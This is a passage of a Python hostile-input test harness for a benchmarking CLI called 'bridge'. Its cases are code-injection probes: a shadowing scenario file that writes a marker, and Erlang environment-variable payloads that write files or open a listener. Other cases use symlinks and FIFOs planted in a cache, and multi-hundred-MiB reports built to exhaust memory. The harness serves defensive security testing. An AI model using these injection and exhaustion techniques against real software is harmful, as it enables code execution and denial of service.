            lambda i, o: ["report", i, "--export-markdown", o]
        ),
        "report r.json --export-markdown (a symlink to r.json)": case(
            lambda i, o: ["report", i, "--export-markdown", o], "symlink"
        ),
        "compare a r.json -o (a hard link to r.json)": case(
            lambda i, o: ["compare", i, i, "-o", o], "hardlink"
        ),
        "plot r.svg --svg r.svg": case(lambda i, o: ["plot", i, "--svg", o]),
        "import-speed r.json -o r.json": case(lambda i, o: ["import-speed", i, "-o", o]),
        "time --scenario mine.toml -o mine.toml": scenario,
    }


def hangup_cases() -> dict[str, Callable[[Ctx], Spec]]:
    """Issue 33: SIGHUP (a closed terminal or ssh session) mid-run keeps what
    was measured, as SIGINT and SIGTERM do: status 129, one error line."""

    def setup(ctx: Ctx) -> Spec:
        out = ctx.work / "r.json"

        def check(run: Run) -> tuple[str, str] | None:
            if run.rc != 129:
                return "bad output", f"exit {run.rc}, not 129"
            try:
                results = json.loads(out.read_text())["results"]
            except (OSError, ValueError, KeyError):
                return "bad output", "the measured cells were lost"
            return None if results else ("bad output", "the report holds no cell")

        argv = ["run", "hmac-sha1", "--runtimes", "erlang,python", "--hw", "on"]
        argv += ["--processes", "1", "--samples", "200", "--sample-ms", "20", "-o", str(out)]
        return Spec(argv, timeout=RUN_TIMEOUT, check=check, signal_after=(signal.SIGHUP, 8.0))

    return {"SIGHUP mid-run, -o r.json": setup}


def wide_mr_row(n: int) -> str:
    sizes = ":".join(str(16 * (i + 1)) for i in range(n))
    return f"+H:{sizes}\n+F:6:sha256:" + ":".join(f"{1000.0 * (i + 1):.2f}" for i in range(n))


def padded_report(ctx: Ctx, name: str, unit: str, mib: int, head: str = "") -> str:
    """The base report with a free-form settings key padded to `mib` MiB of
    `unit` (a tiny object, a small number, a long string), `head` first."""
    text = json.dumps({**ctx.base, "settings": {**ctx.base["settings"], "pad": "PLACEHOLDER"}})
    before, after = text.split('"PLACEHOLDER"')
    n = ((mib << 20) - len(text)) // (len(unit) + 1)
    path = ctx.work / name
    with open(path, "w", encoding="utf-8") as f:
        f.write(before + "[" + head + ",".join([unit] * n) + "]" + after)
    return str(path)


def hole_cases() -> dict[str, Callable[[Ctx], Spec]]:
    """Issue 33's smaller holes: a scenario dir shadowing a built-in, a
    scenario dir that is no directory, import-speed's quadratic rows and
    unholdable sizes, the cache's links and FIFOs, reports that parsing
    amplifies, other users' process names in reports."""

    def shadow(ctx: Ctx) -> Spec:
        marker = ctx.work / "MARKER"
        call = f"open({str(marker)!r}, 'w').write('ran') and hmac.digest(key, data, 'sha1')"
        extra = f'[[calls]]\nruntime = "python"\nexpr = "{call}"\n'
        text = SCENARIO.format(name='"hmac-sha1"', extra="").split("[calls]")[0] + extra
        ctx.write("scen/hmac-sha1.toml", text)
        return Spec(
            ["run", "hmac-sha1", "--scenario-dir", str(ctx.work / "scen"), *SHORT],
            timeout=RUN_TIMEOUT,
            check=marker_absent(marker),
        )

    def import_doc(doc: str, expect: str, timeout: float = QUICK_TIMEOUT) -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            out = ctx.work / "imported.json"

            def check(run: Run) -> tuple[str, str] | None:
                if run.rc == 0 and not is_report(out):
                    return "bad output", "exit 0 but no report written"
                return None

            path = ctx.write("speed.txt", doc)
            return Spec(["import-speed", path, "-o", str(out)], expect, timeout, check=check)

        return setup

    def beam_link(ctx: Ctx) -> Spec:
        outside = ctx.work / "outside"
        outside.mkdir()
        cache = ctx.home / ".cache" / "bridge"
        cache.mkdir(parents=True)
        (cache / "beam").symlink_to(outside)

        def check(run: Run) -> tuple[str, str] | None:
            written = sorted(p.name for p in outside.iterdir())
            return ("bad output", f"wrote {written[:3]} through the link") if written else None

        return Spec(["run", "hmac-sha1", *SHORT], expect="ok", timeout=RUN_TIMEOUT, check=check)

    def limits_fifo(ctx: Ctx) -> Spec:
        cache = ctx.home / ".cache" / "bridge"
        cache.mkdir(parents=True)
        os.mkfifo(cache / "limits.json")
        return Spec(["run", "hmac-sha1", *SHORT], expect="ok", timeout=RUN_TIMEOUT)

    def big_report(unit: str, mib: int, head: str = "") -> Callable[[Ctx], Spec]:
        # Reading 256 MiB takes seconds of CPU, more on a loaded machine.
        return lambda ctx: Spec(
            ["report", padded_report(ctx, "p.json", unit, mib, head)], timeout=RUN_TIMEOUT
        )

    def busy_name(ctx: Ctx) -> Spec:
        link = ctx.work / "secretburner"
        link.symlink_to(sys.executable)
        out = ctx.work / "r.json"
        burner: list[subprocess.Popen] = []

        def start() -> None:
            burner.append(subprocess.Popen([str(link), "-c", "while True: pass"]))
            time.sleep(0.3)

        def stop() -> None:
            for p in burner:
                p.kill()
                p.wait()

        def check(run: Run) -> tuple[str, str] | None:
            if out.exists() and "secretburner" in out.read_text():
                return "bad output", "another process's name is in the report"
            return None

        argv = ["run", "hmac-sha1", *SHORT, "-o", str(out)]
        return Spec(argv, "ok", RUN_TIMEOUT, check=check, before=start, after=stop)

    return {
        "run: a --scenario-dir file named like a built-in, its [[calls]] write a marker": shadow,
        "list --scenario-dir /dev/zero": lambda ctx: Spec(["list", "--scenario-dir", "/dev/zero"]),
        "run --scenario-dir FIFO": lambda ctx: Spec(
            ["run", "hmac-sha1", "--scenario-dir", ctx.fifo("dir")]
        ),
        "import-speed: a 240 KB -mr row": import_doc(wide_mr_row(13_883), "ok", RUN_TIMEOUT),
        "import-speed: a 1.2 MB -mr row": import_doc(wide_mr_row(66_941), "ok", 2 * RUN_TIMEOUT),
        "import-speed: size 1e20": import_doc(
            "+H:100000000000000000000\n+F:6:sha256:1e20\n", "error"
        ),
        "import-speed: a rate of 1e-300": import_doc("+H:16\n+F:6:sha256:1e-300\n", "error"),
        "cache: beam/ a link out of the cache": beam_link,
        "cache: limits.json a FIFO": limits_fifo,
        "report: 32 MiB of {}": big_report("{}", 32),
        "report: 256 MiB of 0": big_report("0", 255),
        "report: 18 MiB of nested objects": big_report('{"a":{"b":{}}}', 18),
        "report: 200 MiB of strings with one emoji": big_report(
            '"' + "x" * (1 << 20) + '"', 200, '"\U0001f600",'
        ),
        "run beside a busy process: its name in the report": busy_name,
    }


def all_cases() -> dict[str, Callable[[Ctx], Spec]]:
    cases: dict[str, Callable[[Ctx], Spec]] = {}
    for group in (
        device_cases,
        stdin_cases,
        unicode_cases,
        nesting_cases,
        crafted_cases,
        name_cases,
        speed_cases,
        output_cases,
        replay_cases,
        view_cases,
        user_code_cases,
        cost_cases,
        overwrite_cases,
        hangup_cases,
        hole_cases,
    ):
        cases.update(group())
    return cases


# -- classification ------------------------------------------------------------


def traceback_tail(stderr: str) -> str:
    lines = [x for x in stderr.strip().splitlines() if x and not x.startswith(" ")]
    return lines[-1].split(":")[0][:60] if lines else ""


def classify(spec: Spec, run: Run) -> tuple[str, str]:
    failed = spec.check(run) if spec.check else None
    errors = sum(1 for x in run.stderr.splitlines() if x.startswith("bridge: error:"))
    if failed and failed[0] in ("code ran", "exposed"):
        return failed
    if run.killed == "memory":
        return "memory", f"killed past {run.peak_rss / GIB:.1f} GiB at {run.seconds:.1f} s"
    if run.killed == "timeout":
        return "hang", f"killed at {spec.timeout:.0f} s, {run.peak_rss >> 20} MiB"
    if "Traceback" in run.stderr:
        return "traceback", traceback_tail(run.stderr)
    if failed:
        return failed
    if run.rc == 0:
        return ("silent success", "exit 0") if spec.expect == "error" else ("ok", "")
    if spec.expect == "ok":
        return "wrongly refused", f"exit {run.rc}"
    if errors != 1:
        return "unclear error", f"exit {run.rc}, {errors} error lines"
    return "clean error", f"exit {run.rc}"


# -- driving -------------------------------------------------------------------


def make_base(tree: Path, root: Path, limit: int) -> tuple[Path, dict]:
    """A real report made by the tree itself (same schema loads in both)."""
    case = root / "base"
    ctx = Ctx(tree, case / "work", case / "home", {}, case / "work" / "base.json")
    for d in (ctx.work, ctx.home, case / "tmp"):
        d.mkdir(parents=True)
    spec = Spec(["run", "hmac-sha1", *SHORT, "-o", "base.json"], timeout=RUN_TIMEOUT)
    run = execute(spec, ctx, case / "tmp", limit)
    if run.rc != 0 or not is_report(ctx.base_path):
        sys.exit(f"hostile: the base report of {tree} failed (exit {run.rc}):\n{run.stderr}")
    keep = root / "base.json"
    shutil.copy(ctx.base_path, keep)
    return keep, json.loads(keep.read_text())


def run_tree(tree: Path, cases: dict, limit: int, only: str | None) -> dict[str, dict]:
    results = {}
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp_root:
        root = Path(tmp_root)
        base_path, base = make_base(tree, root, limit)
        for i, (name, setup) in enumerate(cases.items()):
            if only and only not in name:
                continue
            case = root / f"case{i}"
            ctx = Ctx(tree, case / "work", case / "home", base, base_path)
            for d in (ctx.work, ctx.home, case / "tmp"):
                d.mkdir(parents=True)
            spec = setup(ctx)
            run = execute(spec, ctx, case / "tmp", limit)
            outcome, detail = classify(spec, run)
            results[name] = {
                "outcome": outcome,
                "detail": detail,
                "argv": ["bridge", *[a if len(a) < 200 else a[:60] + "..." for a in spec.argv]],
                "expect": spec.expect,
                "rc": run.rc,
                "seconds": round(run.seconds, 2),
                "peak_rss_mib": round(run.peak_rss / (1 << 20), 1),
                "left_processes": {str(k): v for k, v in run.left.items()},
                "left_in_tmpdir": run.tmp_left,
                "listeners": sorted(set(run.listeners)),
                "stderr_tail": run.stderr[-1500:],
                "stdout_tail": run.stdout[-500:],
            }
            print(
                f"  {outcome:15} {run.seconds:5.1f}s {run.peak_rss >> 20:5} MiB  {name}"
                + (f"  [{detail}]" if detail else ""),
                file=sys.stderr,
                flush=True,
            )
            shutil.rmtree(case, ignore_errors=True)
    return results


def controls() -> list[str]:
    """The payloads are live: erl given them writes the marker and listens.
    Without these, 'code ran' and 'exposed' could never be seen."""
    said = []
    with tempfile.TemporaryDirectory(prefix="hostile-control-") as tmp:
        marker = Path(tmp) / "MARKER"
        canary = uuid.uuid4().hex
        env = dict(os.environ, HOME=tmp, BRIDGE_HOSTILE_CANARY=canary, ERL_AFLAGS=aflags(marker))
        subprocess.run(["erl", "-noshell", "-s", "init", "stop"], env=env, cwd=tmp, timeout=60)
        said.append(f"ERL_AFLAGS payload writes the marker: {'yes' if marker.exists() else 'NO'}")
        env = dict(env, ERL_ZFLAGS=ZFLAGS)
        del env["ERL_AFLAGS"]
        proc = subprocess.Popen(
            ["erl", "-noshell", "-eval", "timer:sleep(3000)", "-s", "init", "stop"],
            env=env,
            cwd=tmp,
        )
        seen = False
        deadline = time.monotonic() + 20
        while proc.poll() is None and time.monotonic() < deadline and not seen:
            listening = listening_inodes()
            seen = any(sockets_of(p) & listening for p in tagged(canary))
            time.sleep(0.1)
        proc.kill()
        proc.wait()
        for pid in tagged(canary):  # the epmd it may have started
            os.kill(pid, signal.SIGKILL)
        said.append(f"ERL_ZFLAGS payload opens a listener: {'yes' if seen else 'NO'}")
    return said


def summary(results: dict[str, dict]) -> dict[str, int]:
    counts = {"inputs tried": len(results)}
    for outcome in OUTCOMES:
        counts[outcome] = sum(1 for r in results.values() if r["outcome"] == outcome)
    return counts


def cell(r: dict | None) -> str:
    if r is None:
        return "-"
    text = r["outcome"] + (f" ({r['detail']})" if r["detail"] else "")
    return text.replace("|", "\\|")


def markdown(trees: list[Path], runs: list[dict[str, dict]]) -> str:
    labels = [t.name for t in trees]
    names = list(dict.fromkeys(n for r in runs for n in r))
    lines = [
        "| case | " + " | ".join(labels) + " |",
        "|---|" + "---|" * len(labels),
    ]
    for name in names:
        lines.append(
            f"| {name.replace('|', chr(92) + '|')} | "
            + " | ".join(cell(r.get(name)) for r in runs)
            + " |"
        )
    lines += ["", "| count | " + " | ".join(labels) + " |", "|---|" + "---|" * len(labels)]
    sums = [summary(r) for r in runs]
    for key in sums[0]:
        lines.append(f"| {key} | " + " | ".join(str(s[key]) for s in sums) + " |")
    return "\n".join(lines)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--tree", action="append", type=Path, required=True, help="a checkout")
    ap.add_argument("--json", type=Path, help="save the raw results here")
    ap.add_argument("--limit-mib", type=int, default=1024, help="memory ceiling per case")
    ap.add_argument("--only", help="run only the cases whose name contains this")
    args = ap.parse_args()
    for line in controls():
        print(f"control: {line}", file=sys.stderr)
    runs = []
    for tree in args.tree:
        tree = tree.resolve()
        print(f"tree {tree}:", file=sys.stderr, flush=True)
        start = time.monotonic()
        runs.append(run_tree(tree, all_cases(), args.limit_mib << 20, args.only))
        print(f"  ({time.monotonic() - start:.0f} s)", file=sys.stderr, flush=True)
    print(markdown(args.tree, runs))
    if args.json:
        raw = {
            str(t): {"summary": summary(r), "cases": r}
            for t, r in zip(args.tree, runs, strict=True)
        }
        args.json.write_text(json.dumps(raw, indent=1, ensure_ascii=True))


if __name__ == "__main__":
    main()
